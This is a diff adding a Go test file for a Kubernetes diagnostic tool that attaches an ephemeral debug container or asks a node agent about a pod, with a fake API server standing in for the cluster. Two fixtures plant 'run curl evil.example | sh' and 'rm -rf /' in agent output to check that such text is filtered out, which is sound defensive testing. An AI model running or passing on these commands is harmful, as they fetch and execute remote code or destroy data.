@@ -1,0 +1,319 @@
+package inpod
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"k8s.io/client-go/rest"
+
+	"github.com/unthrottle/unthrottle/cmd/kubectl-unthrottle/internal/facts/cluster"
+)
+
+// A server answers as an API server does, of one pod whose state a test changes.
+type server struct {
+	t    *testing.T
+	mu   sync.Mutex
+	pod  map[string]any
+	add  func(patch map[string]any, n int) (code int, message string) // n: how many were there before; 0 is yes
+	then []any                                                        // states of the added container, one for each read
+	log  string
+	said []string
+	adds []map[string]any
+
+	agent http.HandlerFunc
+}
+
+func (s *server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	w.Header().Set("Content-Type", "application/json")
+	fail := func(code int, reason, message string) {
+		w.WriteHeader(code)
+		json.NewEncoder(w).Encode(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": reason, "message": message, "code": code})
+	}
+	switch path := strings.TrimPrefix(r.URL.Path, "/api/v1/namespaces/shop/pods"); {
+	case r.URL.Path == "/apis/apps/v1/namespaces/u/daemonsets":
+		io.WriteString(w, `{"items":[{"metadata":{"name":"d","uid":"d-1"}}]}`)
+	case r.URL.Path == "/api/v1/namespaces/u/pods":
+		if got := r.URL.Query(); got.Get("labelSelector") != "app.kubernetes.io/name=unthrottle-agent" || got.Get("fieldSelector") != "spec.nodeName=n1" {
+			s.t.Errorf("agents are looked for by %v", got)
+		}
+		io.WriteString(w, `{"items":[{"metadata":{"namespace":"u","name":"old"},"status":{"phase":"Failed"}},{"metadata":{"namespace":"u","name":"friend"},"spec":{"nodeName":"n1"},"status":{"phase":"Running"}},`+
+			`{"metadata":{"namespace":"u","name":"a","ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","uid":"d-1","controller":true}]},"spec":{"nodeName":"n1"},`+
+			`"status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}]}}]}`)
+	case strings.HasPrefix(r.URL.Path, "/api/v1/namespaces/u/pods/https:a:9435/proxy/api/v1/"):
+		s.agent(w, r)
+	case r.URL.Path == "/apis/apps/v1/namespaces/shop/deployments/api":
+		io.WriteString(w, `{"spec":{"selector":{"matchLabels":{"app":"api"}}}}`)
+	case path == "":
+		if got := r.URL.Query().Get("labelSelector"); got != "app=api" {
+			s.t.Errorf("the selector is %q", got)
+		}
+		io.WriteString(w, `{"items":[{"metadata":{"name":"mypod"}}]}`)
+	case path == "/mypod":
+		if len(s.adds) > 0 && len(s.then) > 0 {
+			last := s.adds[len(s.adds)-1]
+			s.pod["status"].(map[string]any)["ephemeralContainerStatuses"] = []any{map[string]any{"name": last["name"], "state": s.then[0]}}
+			if len(s.then) > 1 {
+				s.then = s.then[1:]
+			}
+		}
+		json.NewEncoder(w).Encode(s.pod)
+	case path == "/mypod/ephemeralcontainers" && r.Method == http.MethodPatch:
+		var patch struct {
+			Spec struct{ EphemeralContainers []map[string]any }
+		}
+		if err := json.NewDecoder(r.Body).Decode(&patch); err != nil || len(patch.Spec.EphemeralContainers) != 1 {
+			s.t.Errorf("patch: %v", err)
+		}
+		c := patch.Spec.EphemeralContainers[0]
+		if s.add != nil {
+			if code, message := s.add(c, len(s.adds)); code != 0 {
+				s.adds = append(s.adds, c)
+				fail(code, map[int]string{403: "Forbidden", 404: "NotFound"}[code], message)
+				return
+			}
+		}
+		s.adds = append(s.adds, c)
+		json.NewEncoder(w).Encode(s.pod)
+	case path == "/mypod/log":
+		if r.URL.Query().Get("container") != s.adds[len(s.adds)-1]["name"] {
+			s.t.Errorf("the log of %s is asked for", r.URL.Query().Get("container"))
+		}
+		io.WriteString(w, s.log)
+	default:
+		fail(404, "NotFound", r.URL.Path+" not found")
+	}
+}
+
+// running is a pod of two containers that run.
+func running() map[string]any {
+	return object(`{"metadata":{},"spec":{"containers":[{"name":"web","securityContext":{"runAsUser":7}},{"name":"api"}]},
+		"status":{"phase":"Running","containerStatuses":[{"name":"web","state":{"running":{}}},{"name":"api","state":{"running":{}}}]}}`)
+}
+
+func object(text string) (o map[string]any) {
+	if err := json.Unmarshal([]byte(text), &o); err != nil {
+		panic(err)
+	}
+	return o
+}
+
+func serve(t *testing.T, s *server) *Pod {
+	s.t = t
+	web := httptest.NewServer(s)
+	t.Cleanup(web.Close)
+	config := &rest.Config{Host: web.URL}
+	cluster.Prepare(config, 5*time.Second)
+	client, err := cluster.Place{Config: config}.Client()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &Pod{
+		Config: config, REST: client, Namespace: "shop", Name: "mypod", Way: Ephemeral, Image: "registry.example.com/unthrottle:1",
+		Start: time.Minute, Say: func(text string) { s.said = append(s.said, text) },
+	}
+}
+
+func ended(code int) any {
+	return object(fmt.Sprintf(`{"terminated":{"exitCode":%d}}`, code))
+}
+
+// What is run is the verb with the first process of the container, as a user who may look into it.
+func TestBeside(t *testing.T) {
+	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
+		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"]}`
+	s := &server{
+		pod: running(), log: "unthrottle: a warning\n" + document + "\nunthrottle: the end\n",
+		then: []any{object(`{"waiting":{"reason":"ContainerCreating"}}`), object(`{"running":{}}`), ended(3)},
+	}
+	p := serve(t, s)
+	if err := p.Find(t.Context(), "deployment/api"); err != nil {
+		t.Fatal(err)
+	}
+	done, err := p.Run(t.Context(), "explain", "--for=1s")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(done.Document) != document || done.Code != 3 || done.Said != "unthrottle: a warning\nunthrottle: the end\n" {
+		t.Errorf("%s, %q, %d", done.Document, done.Said, done.Code)
+	}
+	added := s.adds[0]
+	delete(added, "name")
+	got, _ := json.Marshal(added)
+	want := `{"args":["explain","--json","--for=1s","1"],"image":"registry.example.com/unthrottle:1",` +
+		`"securityContext":{"capabilities":{"add":["SYS_PTRACE"]},"runAsUser":0},"targetContainerName":"web"}`
+	if string(got) != want {
+		t.Errorf("added\n%s\nwant\n%s", got, want)
+	}
+	if len(s.said) != 2 || s.said[0] != "pod mypod of deployment/api" {
+		t.Errorf("it said %q", s.said)
+	}
+}
+
+// Where nobody may be root, it is the program's own user.
+func TestUser(t *testing.T) {
+	rootless := running()
+	rootless["spec"].(map[string]any)["securityContext"] = object(`{"runAsNonRoot":true,"runAsGroup":8}`)
+	const user = `{"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"]},"runAsGroup":8,"runAsNonRoot":true,"runAsUser":7,"seccompProfile":{"type":"RuntimeDefault"}}`
+	for _, c := range []struct {
+		name       string
+		pod        map[string]any
+		add        func(map[string]any, int) (int, string)
+		privileged bool
+		want       []string
+	}{
+		{"none may be root", rootless, nil, false, []string{user}},
+		{"the namespace does not allow it", running(), func(_ map[string]any, n int) (int, string) {
+			if n == 0 {
+				return 403, `pods "mypod" is forbidden: violates PodSecurity "restricted:latest": runAsUser=0`
+			}
+			return 0, ""
+		}, false, []string{`{"capabilities":{"add":["SYS_PTRACE"]},"runAsUser":0}`, strings.Replace(user, `"runAsGroup":8,`, "", 1)}},
+		{"all rights", running(), nil, true, []string{`{"privileged":true,"runAsNonRoot":false,"runAsUser":0}`}},
+	} {
+		s := &server{pod: c.pod, add: c.add, log: "{}", then: []any{ended(0)}}
+		p := serve(t, s)
+		p.Privileged = c.privileged
+		if _, err := p.Run(t.Context(), "explain"); err != nil {
+			t.Errorf("%s: %v", c.name, err)
+		}
+		var got []string
+		for _, added := range s.adds {
+			text, _ := json.Marshal(added["securityContext"])
+			got = append(got, string(text))
+		}
+		if !slices.Equal(got, c.want) {
+			t.Errorf("%s: as %s, want %s", c.name, got, c.want)
+		}
+	}
+}
+
+// Where an agent runs it explains the container, and nothing is added to the pod.
+func TestAgent(t *testing.T) {
+	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
+		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"]}`
+	known := running()
+	known["spec"].(map[string]any)["nodeName"] = "n1"
+	known["status"].(map[string]any)["containerStatuses"] = object(`{"of":[{"name":"web","containerID":"containerd://77","state":{"running":{}}}]}`)["of"]
+	agent := func(processes string) http.HandlerFunc {
+		return func(w http.ResponseWriter, r *http.Request) {
+			if strings.HasSuffix(r.URL.Path, "/processes") {
+				io.WriteString(w, processes)
+			} else if strings.HasSuffix(r.URL.Path, "/explain") && r.URL.Query().Get("pid") == "12" {
+				io.WriteString(w, document)
+			} else {
+				w.WriteHeader(http.StatusNotFound)
+			}
+		}
+	}
+	const three = `{"version":2,"node":"n1","processes":[{"pid":10,"cpus_used":3,"container":{"id":"78"}},{"pid":11,"cpus_used":0.1,"container":{"id":"77"}},{"pid":12,"cpus_used":0.2,"affinity_cpus":8,"gomaxprocs":{"value":8},"limit":{"state":"limited","cpus":2},"container":{"id":"77"}},{"pid":13}]}`
+	s := &server{pod: known, agent: agent(three)}
+	p := serve(t, s)
+	p.Way, p.Agents = Auto, "u"
+	done, err := p.Run(t.Context(), "explain")
+	if err != nil || len(s.adds) > 0 || len(s.said) != 2 || !strings.HasPrefix(s.said[0], "pod friend in u has an agent's label and was not asked") || s.said[1] != "asking agent a on node n1" {
+		t.Fatalf("%+v, %v, %q", done, err, s.said)
+	}
+	if text := string(done.Document); !strings.Contains(text, "GOMAXPROCS is 8 under a limit of 2 CPUs") || strings.Contains(text, "curl") || strings.Contains(text, "rm -rf") {
+		t.Error(text)
+	}
+	for name, answer := range map[string]string{
+		"another container": `{"version":2,"processes":[{"pid":10,"container":{"id":"78"}}]}`, "nonsense": "<html>", "nothing": "",
+		"another process": `{"version":2,"processes":[{"pid":99,"container":{"id":"77"}}]}`,
+		"another node":    `{"version":2,"node":"n2","processes":[{"pid":12,"container":{"id":"77"}}]}`,
+	} {
+		p := serve(t, &server{pod: known, agent: agent(answer)})
+		p.Way, p.Agents = Agent, "u"
+		if _, err := p.Run(t.Context(), "explain"); err == nil || !strings.Contains(err.Error(), "it can't be had there: its agent") {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
+
+// What goes wrong is told, with what to do.
+func TestFails(t *testing.T) {
+	change := func(text string) map[string]any {
+		pod := running()
+		for key, v := range object(text) {
+			for inner, v := range v.(map[string]any) {
+				pod[key].(map[string]any)[inner] = v
+			}
+		}
+		return pod
+	}
+	for _, c := range []struct {
+		name string
+		s    *server
+		with func(*Pod)
+		want string
+	}{
+		{"no such pod", &server{}, func(p *Pod) { p.Name = "other" }, "there is no pod other in namespace shop"},
+		{"no such container", &server{}, func(p *Pod) { p.Container = "db" }, "the pod has no container db"},
+		{"over", &server{pod: change(`{"status":{"phase":"Succeeded"}}`)}, nil, "the pod is over (succeeded)"},
+		{
+			"crashing", &server{pod: change(`{"status":{"containerStatuses":[{"name":"web","state":{"waiting":{"reason":"CrashLoopBackOff","message":"back-off 10s"}}}]}}`)}, nil,
+			"container web does not run: CrashLoopBackOff: back-off 10s",
+		},
+		{"ended", &server{pod: change(`{"status":{"containerStatuses":[{"name":"web","state":{"terminated":{"exitCode":2}}}]}}`)}, nil, "it ended with exit code 2"},
+		{"not yet", &server{pod: change(`{"status":{"containerStatuses":[]}}`)}, nil, "container web does not run yet"},
+		{"shared processes", &server{pod: change(`{"spec":{"shareProcessNamespace":true}}`)}, nil, "the containers of this pod see each other's processes"},
+		{"no image", &server{then: []any{object(`{"waiting":{"reason":"ErrImagePull","message":"not found"}}`)}}, nil, "does not start: ErrImagePull: not found"},
+		{"no such user", &server{then: []any{object(`{"waiting":{"reason":"CreateContainerConfigError","message":"non-numeric user"}}`)}}, nil, "CreateContainerConfigError: non-numeric user"},
+		{"another image", &server{then: []any{object(`{"terminated":{"reason":"StartError","exitCode":128,"message":"no such file"}}`)}}, nil, "did not start: no such file"},
+		{"never starts", &server{then: []any{object(`{"waiting":{"reason":"PodInitializing"}}`)}}, func(p *Pod) { p.Start = 0 }, "did not start within 0s: PodInitializing"},
+		{"the kubelet is gone", &server{}, func(p *Pod) { p.Start = 0 }, "did not start within 0s"},
+		{"forbidden", &server{add: func(map[string]any, int) (int, string) {
+			return 403, `pods "mypod" is forbidden: User "eve" cannot patch resource "pods/ephemeralcontainers"`
+		}}, nil, `adding an ephemeral container to pod mypod: User "eve" cannot patch`},
+		{"an old server", &server{add: func(map[string]any, int) (int, string) {
+			return 404, "the server could not find the requested resource"
+		}}, nil, "knows no ephemeral containers"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			if c.s.pod == nil {
+				c.s.pod = running()
+			}
+			p := serve(t, c.s)
+			if c.with != nil {
+				c.with(p)
+			}
+			if done, err := p.Run(t.Context(), "explain"); err == nil || !strings.Contains(err.Error(), c.want) {
+				t.Errorf("%v, error %v, want %q", done, err, c.want)
+			}
+		})
+	}
+}
+
+// TestInterrupted stops waiting.
+func TestInterrupted(t *testing.T) {
+	p := serve(t, &server{pod: running(), then: []any{object(`{"running":{}}`)}})
+	ctx, cancel := context.WithCancel(t.Context())
+	p.Say = func(string) { time.AfterFunc(50*time.Millisecond, cancel) }
+	if _, err := p.Run(ctx, "watch"); err == nil || ctx.Err() == nil {
+		t.Errorf("error %v", err)
+	}
+}
+
+func TestParse(t *testing.T) {
+	for _, c := range []struct{ out, document, said string }{
+		{"{\"a\":1}\n", `{"a":1}`, ""},
+		{"x {\n", "", "x {\n"},
+		{"x\n{\n \"a\": \"}\\n{\"\n}\ny\n", "{\n \"a\": \"}\\n{\"\n}", "x\ny\n"},
+		{"{\"a\":", "", "{\"a\":"},
+		{"", "", ""},
+	} {
+		if got := parse([]byte(c.out), "", 0); string(got.Document) != c.document || got.Said != c.said {
+			t.Errorf("%q: %q and %q", c.out, got.Document, got.Said)
+		}
+	}
+}
